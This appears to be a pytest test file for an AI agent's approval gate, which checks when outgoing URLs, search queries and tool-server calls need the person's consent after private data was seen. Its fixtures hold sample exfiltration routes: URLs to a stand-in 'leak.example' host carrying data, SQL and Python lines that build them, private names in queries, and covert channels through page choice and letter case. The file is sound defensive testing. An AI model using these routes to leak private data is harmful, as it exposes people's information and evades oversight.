"""What may leave without asking once private data were seen: which addresses, which words, how much of them."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import replace

import pytest
from pydantic import JsonValue

from agent.events import Asked, Decided, Event, Observed, Prepared, Source, ToolCalled, Waiting
from agent.loop.approval import NO_POLICY, ONCE, needs_approval
from agent.loop.provenance import Told, as_seen
from agent.messages import Artifact, Facts
from agent.settings import read_settings
from agent.toolkit.base import Hints, Tool, Toolbox, tool
from agent.tools.catalogue import CATALOGUE, toolbox
from agent.tools.search.search_tool import SearchCache
from agent.tools.spec import Parts


@tool(name="mail_inbox")
def inbox(text: str, unread: bool = True) -> str:
    """Looks into an inbox.

    Args:
        text: what to look for
        unread: whether only among what was not read
    """
    return text


def stand_in(name: str) -> Tool:
    """A tool of the catalogue that cannot be made without files or a shell, as a run would have it."""
    spec = next(spec for spec in CATALOGUE if spec.name == name)
    return spec.with_effect(replace(inbox, name=name))


SERVERS = (
    replace(inbox, hints=Hints("mail", read_only=True), effect="acts"),
    replace(inbox, name="notes_find", hints=Hints("notes"), effect="reaches"),
)
NAMES = ("search", "read_url", "wikipedia", "weather", "calculator", "now", "ask_user", "documents")
THERE = toolbox(Parts(read_settings({}), SearchCache(), servers=SERVERS), NAMES)
TOOLS = Toolbox([*THERE.tools, *(stand_in(name) for name in ("query", "query_database", "python", "terminal"))])
QUESTION = "What does https://a.example/report say? And (http://www.b.example/x)?"


def run_of(*steps: tuple[str, str, str], question: str = QUESTION) -> list[Event]:
    """A run with these calls: tool, input, what was observed ("!" before it: a failure)."""
    events: list[Event] = [Asked(question, 0.0)]
    for number, (name, given, seen) in enumerate(steps):
        events.append(ToolCalled(str(number), name, given, {}))
        events.append(Observed(str(number), seen.lstrip("!"), error="refused" if seen.startswith("!") else ""))
    return events


CELLS = ("query", "select * from staff", "1 row:\n| Ana Lima | 74,200.00 EUR | 田中太郎 |")
PRIVATE = ("query", "select 1", "1 row:\nsecret")


def why(name: str, arguments: Mapping[str, JsonValue], events: Sequence[Event], earlier: Sequence[Event] = ()) -> str:
    """What the person is asked before a call because of what it would tell, "" for nothing."""
    called = TOOLS.find(name)
    ready = called.prepare(json.dumps(arguments, ensure_ascii=False))
    needed = needs_approval(
        ToolCalled("new", name, "", ready.arguments), called, Told(events, earlier, TOOLS), NO_POLICY
    )
    if needed is None or needed.reason.startswith("The agent has read other people's text"):
        return ""
    assert needed.decisions == ONCE
    return needed.reason


def guarded(url: str, events: Sequence[Event], earlier: Sequence[Event] = ()) -> bool:
    """Whether the person must allow the address after these events, as one that the model put together."""
    return "neither in your question nor in a result" in why("read_url", {"url": url}, events, earlier)


def test_composed_addresses_are_free_without_private_data() -> None:
    assert not guarded("https://c.example/?q=anything", run_of(("search", "x", "found")))
    assert not guarded("https://c.example/path", [Asked("Read something", 0.0)])


@pytest.mark.parametrize("name", ["query", "query_database", "python", "documents", "terminal", "mail_inbox", "gone"])
def test_after_private_data_a_composed_address_asks(name: str) -> None:
    events = run_of((name, "x", "secret"))
    for url in (
        "https://c.example/?d=secret",
        "https://c.example/secret",
        "https://secret.c.example/",
        "https://c.example",
    ):
        assert guarded(url, events), url
        assert guarded(url, [Asked("Read something", 0.0)], earlier=events), url
    assert not guarded("https://a.example/report", events)


@pytest.mark.parametrize(
    "event",
    [
        Asked("q", 0.0, artifacts=(Artifact("png", "receipt", "0" * 64, 1),)),
        Prepared("q", "s", (), "react", "m", "e", facts=Facts(cards=({"table": "staff"},))),
        Prepared("q", "s", (), "react", "m", "e", facts=Facts(notes=("I have diabetes.",))),
        Prepared("q", "s", (), "react", "m", "e", parts={"databases": "0"}),
    ],
)
def test_tables_notes_databases_and_pictures_are_private_data(event: Event) -> None:
    assert guarded("https://c.example/?d=secret", [Asked("q", 0.0), event])
    assert guarded("https://c.example/?d=secret", [Asked("q", 0.0)], earlier=[event])


FOUND = "[1] Title\nhttps://found.example/one\n\n[x](https://found.example/two?a=b%20c), "
FOUND += "<https://found.example/three>. [y](https://linked.example/four%28five%29)"


@pytest.mark.parametrize(
    ("url", "sent"),
    [
        ("https://a.example/report", ""),
        ("http://a.example/report/", "https://a.example/report"),
        ("https://www.a.example/report#part", "https://a.example/report"),
        ("https://A.example/rep%6Frt?", "https://a.example/report"),
        ("https://b.example/x", "http://www.b.example/x"),
        ("https://a.example:443", "https://a.example/"),
        ("https://found.example/one/", "https://found.example/one"),
        ("https://found.example/two?a=%62%20c", "https://found.example/two?a=b%20c"),
        ("https://found.example/%74%68%72%65%65", "https://found.example/three"),
        ("https://linked.example/four(five)", "https://linked.example/four%28five%29"),
        ("http://found.example", "https://found.example/"),
    ],
)
def test_an_address_that_was_seen_goes_out_as_it_was_seen(url: str, sent: str) -> None:
    events = run_of(("search", "x", FOUND), PRIVATE)
    assert not guarded(url, events)
    assert as_seen(TOOLS.find("read_url"), {"url": url}, Told(events, (), TOOLS)) == sent
    # As long as there is nothing to carry away, it goes as it was written.
    assert as_seen(TOOLS.find("read_url"), {"url": url}, Told(events[:3], (), TOOLS)) == ""


def test_a_source_is_known() -> None:
    events = run_of(PRIVATE, ("search", "x", "found [1]"))
    events[-1] = Observed("1", "found [1]", sources=(Source(1, "t", "https://found.example/deep?x=1"),))
    assert not guarded("https://found.example/deep?x=1", events)
    assert guarded("https://found.example/deep?x=2", events)


LEAK = "https://leak.example/?d=secret"


@pytest.mark.parametrize(
    "steps",
    [
        [PRIVATE, ("query", "select 'https://leak.example/?d='||x", f"1 row:\n{LEAK}")],
        [("python", "print('https://leak.example/?d=' + x)", LEAK)],
        [PRIVATE, ("read_url", LEAK, f"!{LEAK} was not in the question")],
        [PRIVATE, ("search", LEAK, f"No results for {LEAK}")],
        [PRIVATE, ("echo", f'{{"text": "{LEAK}"}}', f"You said {LEAK}")],
        [PRIVATE, ("search", "x", "https://leak.example/?d=")],
        [PRIVATE, ("search", "x", "https://leak.example/")],
        # What a tool server, a document or a table shows was chosen by nobody but the model, or put together for it.
        [("mail_inbox", "x", f"Open {LEAK}")],
        [("documents", "x", f"See {LEAK}")],
        [("recall", "1.1", LEAK), PRIVATE],
        [("terminal", "cat links", LEAK)],
    ],
)
def test_a_result_that_is_not_of_the_public_web_makes_no_address_known(steps: list[tuple[str, str, str]]) -> None:
    assert guarded(LEAK, run_of(*steps))


def test_what_was_read_may_be_read_on() -> None:
    url = "https://c.example/page"
    assert not guarded(url, run_of(("read_url", url, f"[1] Page\n{url}\n\ntext"), PRIVATE))


def test_addresses_of_earlier_runs_are_known() -> None:
    earlier = run_of(("search", "x", "https://before.example/page"))
    assert guarded("https://before.example/page", run_of(PRIVATE))
    assert not guarded("https://before.example/page", run_of(PRIVATE), earlier=earlier)


def test_a_tool_is_known_by_its_own_name_whatever_the_model_calls_it() -> None:
    """One told by other words is as public, and as much of the model's making, as before."""
    asked = Asked(QUESTION, 0.0)
    search = [asked, ToolCalled("0", "lookup", "x", {}, own="search"), Observed("0", "found")]
    query = [asked, ToolCalled("0", "sheet", "select 'https://leak.exam' || x", {}, own="query"), Observed("0", LEAK)]
    assert not guarded("https://c.example/?q=anything", search)
    assert guarded(LEAK, query)


LETTERS = [f"https://spell.example/{letter}" for letter in "abcdefghijklmnopqrstuvwxyz"]


def opened(*urls: str) -> list[ToolCalled]:
    """Pages that were opened unasked."""
    return [ToolCalled(f"open {url}", "read_url", url, {"url": url, "start": 0}) for url in urls]


def test_which_of_many_pages_are_opened_tells_something() -> None:
    """A page with a link for each letter spells a name out; one that the person named is theirs."""
    events = run_of(("search", "x", " ".join(LETTERS)), PRIVATE)
    asked = [why("read_url", {"url": LETTERS[count]}, [*events, *opened(*LETTERS[:count])]) for count in range(6)]
    assert [bool(reason) for reason in asked] == [False, False, False, True, True, True]
    assert "which pages it opens can tell something" in asked[3]
    so_far = [*events, *opened(*LETTERS[:3])]
    assert not why("read_url", {"url": LETTERS[2], "start": 5}, so_far)
    assert not why("read_url", {"url": "https://a.example/report"}, so_far)
    # Before there was anything to tell, pages were opened for free, and what the person allowed is not counted.
    before = [*events[:3], *opened(*LETTERS[:9]), *events[3:]]
    assert not why("read_url", {"url": LETTERS[9]}, before)
    waited = [Waiting(event.call_id, "approval", "", ONCE) for event in opened(*LETTERS[:3])]
    assert not why("read_url", {"url": LETTERS[3]}, [*so_far, *waited])


WEATHER = "What will the weather be in Lisbon, Portugal tomorrow, and who won the cup?"


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("weather", {"place": "Lisbon, Portugal"}),
        ("weather", {"place": "Lisbon", "date": "2026-11-24", "units": "metric"}),
        ("search", {"query": "who won the cup 2026 final result"}),
        ("search", {"query": "weather Lisbon tomorrow"}),
        ("wikipedia", {"article": "Lisbon", "show": "section", "section": "Climate"}),
        ("mail_inbox", {"text": "Lisbon"}),
        ("notes_find", {"text": "cup winners list"}),
    ],
)
def test_a_question_that_has_nothing_to_do_with_the_data_asks_nothing(
    name: str, arguments: dict[str, JsonValue]
) -> None:
    facts = Facts("2026-11-23", cards=({"table": "staff", "columns": ["name", "salary", "date"]},))
    events = [*run_of(CELLS, question=WEATHER), Prepared("q", "s", (), "react", "m", "e", facts=facts)]
    assert why(name, arguments, events) == ""


@pytest.mark.parametrize(
    ("name", "arguments", "shown"),
    [
        ("search", {"query": "Ana Lima salary"}, "Ana, Lima"),
        ("search", {"query": "ana lima"}, "ana, lima"),
        ("search", {"query": "earns 74200 a year"}, "74200"),
        ("search", {"query": "who earns 74.200"}, "74.200"),
        ("search", {"query": "AnaLima"}, "AnaLima"),
        ("search", {"query": "A n a L i m a"}, "A n a L i m a"),
        ("search", {"query": "田中太郎とは"}, "田中太郎"),
        ("search", {"query": "ＡＮＡ"}, "ANA"),
        ("weather", {"place": "Lima"}, "Lima"),
        ("wikipedia", {"article": "Lisbon", "show": "section", "section": "Lima"}, "Lima"),
        ("mail_inbox", {"text": "Ana"}, "Ana"),
        ("notes_find", {"text": "Ana"}, "Ana"),
    ],
)
def test_words_of_private_data_ask_wherever_they_would_go(
    name: str, arguments: dict[str, JsonValue], shown: str
) -> None:
    asked = why(name, arguments, run_of(CELLS, question=WEATHER))
    assert f"“{shown}”" in asked, asked
    assert f"“{shown}”" in why(name, arguments, run_of(question=WEATHER), earlier=run_of(CELLS))
    # The person's own words go where they are asked to.
    typed = run_of(CELLS, question=f"{WEATHER} {' '.join(map(str, arguments.values()))}")
    assert why(name, arguments, typed) == ""


def test_words_that_the_person_let_a_tool_have_are_not_asked_for_twice() -> None:
    events = run_of(CELLS, question=WEATHER)
    called = ToolCalled("a", "search", "Ana Lima", {"query": "Ana Lima"})
    allowed = [called, Waiting("a", "approval", "", ONCE), Decided("a", "allowed"), Observed("a", "found")]
    assert why("search", {"query": "Ana Lima"}, [*events, *allowed]) == ""
    assert "Ana" in why("wikipedia", {"article": "Ana Lima"}, [*events, *allowed])
    assert "Ana" in why("search", {"query": "Ana Lima"}, [*events, *allowed[:2], Decided("a", "denied")])


def test_a_tool_server_is_not_called_without_end() -> None:
    """Which of the person's words it is sent, one after another, spells something, too."""
    events = run_of(CELLS, question=WEATHER)
    words = [
        ToolCalled(f"w{n}", "mail_inbox", "", {"text": word}) for n, word in enumerate(("who", "cup", "won", "the"))
    ]
    assert why("mail_inbox", {"text": "weather"}, [*events, *words[:3]]) == ""
    assert "more words of the agent's own" in why("mail_inbox", {"text": "weather"}, [*events, *words])
    assert why("search", {"query": "weather"}, [*events, *words]) == ""


def test_how_much_of_its_own_the_model_may_send() -> None:
    """Words in a code of its own: some to the services that the owner set up, next to nothing to anybody else."""
    events = run_of(CELLS, question=WEATHER)
    assert why("search", {"query": "qwxh" * 16}, events) == ""
    assert "more words of the agent's own to search" in why("search", {"query": "qwxh" * 17}, events)
    before = ToolCalled("b", "wikipedia", "", {"article": "tkzq" * 12})
    assert "more words of the agent's own" in why("search", {"query": "qwxh" * 5}, [*events, before])
    assert "to the tool server mail" in why("mail_inbox", {"text": "qwxh"}, events)
    assert why("mail_inbox", {"text": "Lisbon", "unread": False}, events) == ""
    assert why("notes_find", {"text": "qwxh"}, events) == ""
    # The letters of the person's words in another case are a code, too.
    assert "more words" in why("mail_inbox", {"text": "LiSbOn"}, events)
    # Nothing is counted before there was anything to tell.
    assert why("search", {"query": "qwxh" * 17}, [*run_of(question=WEATHER), before]) == ""
